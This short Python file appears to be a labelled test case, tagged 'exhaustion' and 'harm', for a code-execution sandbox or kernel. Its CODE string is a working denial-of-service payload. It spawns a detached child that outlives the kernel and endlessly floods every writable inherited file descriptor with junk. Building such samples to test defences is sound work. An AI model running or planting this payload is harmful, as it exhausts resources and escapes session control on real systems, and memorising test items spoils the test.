"""Lets a child that outlives the kernel write to every output that the kernel was started with."""

FAMILY = "exhaustion"
HONEST = 2
PLAIN = "harm"
ALONE = True
CODE = '''
import fcntl
import os
import stat
import subprocess
import sys

program = """
import os, sys
while True:
    for number in map(int, sys.argv[1:]):
        try:
            os.write(number, b"attack " * 10_000)
        except OSError:
            pass
"""
outputs = []
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        writable = fcntl.fcntl(number, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY
        if writable and not stat.S_ISSOCK(os.fstat(number).st_mode):
            outputs.append(os.dup(number))
    except OSError:
        pass
command = [sys.executable, "-c", program, *map(str, outputs)]
subprocess.Popen(command, start_new_session=True, pass_fds=outputs)
'''
